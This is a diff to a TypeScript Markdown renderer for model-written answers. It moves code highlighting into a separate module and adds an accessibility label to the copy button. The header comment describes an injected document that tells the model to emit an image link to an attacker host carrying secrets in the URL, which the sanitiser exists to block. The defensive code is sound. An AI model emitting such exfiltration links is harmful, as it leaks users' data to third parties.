@@ -1,5 +1,5 @@
-// Markdown to safe HTML for answers: marked (GFM), highlight.js core with the languages people
-// paste most, citations "[n]" turned into buttons, everything sanitised by DOMPurify.
+// Markdown to safe HTML for answers: marked (GFM), code highlighted by highlight.js once it has
+// loaded (highlight.ts), citations "[n]" turned into buttons, everything sanitised by DOMPurify.
 //
 // An answer is text a model wrote from documents anyone could have written: a document that
 // tells the model to emit `![](https://attacker/?q=<secrets>)` must not make the browser fetch
@@ -8,50 +8,8 @@
 // Content-Security-Policy is the second wall).
 
 import DOMPurify from "dompurify";
-import hljs from "highlight.js/lib/core";
-import bash from "highlight.js/lib/languages/bash";
-import c from "highlight.js/lib/languages/c";
-import cpp from "highlight.js/lib/languages/cpp";
-import css from "highlight.js/lib/languages/css";
-import go from "highlight.js/lib/languages/go";
-import java from "highlight.js/lib/languages/java";
-import javascript from "highlight.js/lib/languages/javascript";
-import json from "highlight.js/lib/languages/json";
-import markdown from "highlight.js/lib/languages/markdown";
-import python from "highlight.js/lib/languages/python";
-import rust from "highlight.js/lib/languages/rust";
-import sql from "highlight.js/lib/languages/sql";
-import typescript from "highlight.js/lib/languages/typescript";
-import xml from "highlight.js/lib/languages/xml";
-import yaml from "highlight.js/lib/languages/yaml";
 import { Marked, type Tokens } from "marked";
-
-const languages = { bash, c, cpp, css, go, java, javascript, json, markdown, python, rust, sql, typescript, xml, yaml };
-for (const [name, lang] of Object.entries(languages)) hljs.registerLanguage(name, lang);
-hljs.registerAliases(["sh", "shell", "zsh", "console"], { languageName: "bash" });
-hljs.registerAliases(["js", "jsx", "mjs"], { languageName: "javascript" });
-hljs.registerAliases(["ts", "tsx"], { languageName: "typescript" });
-hljs.registerAliases(["py"], { languageName: "python" });
-hljs.registerAliases(["rs"], { languageName: "rust" });
-hljs.registerAliases(["html", "svg"], { languageName: "xml" });
-hljs.registerAliases(["yml"], { languageName: "yaml" });
-hljs.registerAliases(["md"], { languageName: "markdown" });
-
-function escapeHtml(s: string): string {
-  return s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
-}
-
-export function highlight(code: string, lang: string | undefined): { html: string; language?: string } {
-  const name = (lang ?? "").trim().split(/\s+/)[0]?.toLowerCase();
-  if (name && hljs.getLanguage(name)) {
-    try {
-      return { html: hljs.highlight(code, { language: name, ignoreIllegals: true }).value, language: name };
-    } catch {
-      // fall through to plain text
-    }
-  }
-  return { html: escapeHtml(code), language: name || undefined };
-}
+import { escapeHtml, highlight } from "./highlight";
 
 const marked = new Marked({ gfm: true, breaks: false });
 marked.use({
@@ -59,7 +17,7 @@ marked.use({
     code({ text, lang }: Tokens.Code) {
       const { html, language } = highlight(text, lang);
       const cls = language ? ` class="hljs language-${escapeHtml(language)}"` : ` class="hljs"`;
-      return `<pre><button type="button" class="copy-code" data-copy-code="">Copy</button><code${cls}>${html}</code></pre>\n`;
+      return `<pre><button type="button" class="copy-code" data-copy-code="" aria-label="Copy code">Copy</button><code${cls}>${html}</code></pre>\n`;
     },
   },
   extensions: [
@@ -127,4 +85,3 @@ export function renderMarkdown(text: string): string {
   });
 }
 
-export { hljs };
